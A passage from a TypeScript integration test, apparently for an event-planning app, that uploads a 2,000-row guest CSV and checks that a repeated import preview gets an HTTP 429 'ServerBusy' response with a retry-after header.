          body: ['Name,E-mail', ...rows].join('\n'),
        });
        expect(up.status).toBe(201);
        const { uploadId, suggestedSheet } = (await up.json()) as UploadReply;
        const ask = () =>
          fetch(`${tight.url}/api/plans/${token}/uploads/${uploadId}/preview`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...user },
            body: JSON.stringify({ kind: 'guests', sheet: suggestedSheet }),
          });
        const first = await ask();
        const answer = (await first.json()) as Preview;
        expect(first.status, JSON.stringify(answer).slice(0, 300)).toBe(200);
        expect(answer.counts.new).toBe(2_000);
        const second = await ask();
        expect(second.status).toBe(429);
        expect(Number(second.headers.get('retry-after'))).toBeGreaterThan(0);
        const body = (await second.json()) as { error: string; code: string };
        expect(body.code).toBe('ServerBusy');
        expect(body.error).toMatch(/^This plan’s server is busy with other changes just now\. Please wait \d+ seconds? and preview again\.$/);
      } finally {
        await tight.close();
      }
    });
  });
}
